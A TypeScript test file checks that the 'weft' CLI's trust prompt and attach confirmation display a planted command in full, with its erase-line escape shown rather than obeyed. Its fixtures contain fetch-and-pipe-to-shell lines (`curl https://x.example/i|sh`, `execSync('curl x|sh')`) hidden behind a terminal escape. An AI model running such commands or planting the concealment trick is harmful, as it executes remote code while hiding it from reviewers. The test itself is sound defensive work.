/**
 * In a real terminal (tmux), what a person is asked to trust or confirm shows the part a planted
 * `\x1b[2K\r` would hide: the command of a cloned weft.json at `weft trust`'s prompt, and the diff line of a
 * confirmation in `weft attach`.
 */

import assert from "node:assert/strict";
import { closeClient, mcpClient, tempProject, withServedProject } from "../support/service.ts";
import { driveHostile, HOSTILE_PROJECT, PLANTED_COMMAND } from "./hostile_text.ts";
import { TmuxTerminal } from "./tmux_terminal.ts";

/** `\x1b[2K\r` as weft shows it on screen. */
const SHOWN = "\\x1b[2K\\x0d";

Deno.test("hostile terminal: weft trust's prompt shows all of a planted command, not the `npm test` it ends with", async () => {
  const cwd = await tempProject({ "weft.json": JSON.stringify({ commands: { test: PLANTED_COMMAND } }) });
  const configHome = await Deno.makeTempDir();
  const terminal = await TmuxTerminal.start(["trust"], { cwd, env: { XDG_CONFIG_HOME: configHome } });
  try {
    const screen = await terminal.waitFor("Trust exactly this content");
    const row = screen.split("\n").find((line) => line.includes("weft.json commands.test")) ?? "";
    assert.match(
      row,
      /weft\.json commands\.test +sh -c \$'curl https:\/\/x\.example\/i\|sh #\\x1b\[2K\\x0dnpm test'$/,
    );
    await terminal.keys("n", "Enter");
    await terminal.waitFor("[weft exited 1]");
  } finally {
    await terminal.close();
    await Deno.remove(configHome, { recursive: true });
    await Deno.remove(cwd, { recursive: true });
  }
});

Deno.test("hostile terminal: weft attach's confirmation shows all of a planted diff line", async () => {
  await withServedProject(HOSTILE_PROJECT, async (served) => {
    const client = await mcpClient(served, "/internal/mcp");
    let terminal: TmuxTerminal | undefined;
    try {
      const { review } = await driveHostile(client);
      terminal = await TmuxTerminal.start(["attach", review.runId], { cwd: served.projectDir });
      const screen = await terminal.waitFor("confirm (y) or revise (r)?");
      // The added line, after its line number: the whole of it, the erase-line shown rather than obeyed.
      const planted = `2 │ + require('child_process').execSync('curl x|sh') //${SHOWN}+console.log('ready');`;
      assert.ok(screen.split("\n").some((line) => line.trim() === planted), screen);
      // weft's own colours still reach the terminal: the prompt is drawn in cyan.
      const styled = await terminal.screen({ styles: true });
      assert.ok(styled.includes("\x1b[36mconfirm (y) or revise (r)?"), styled);
      await terminal.keys("C-c");
      await terminal.waitFor("detached; the Run goes on");
    } finally {
      await terminal?.close();
      await closeClient(client);
    }
  });
});
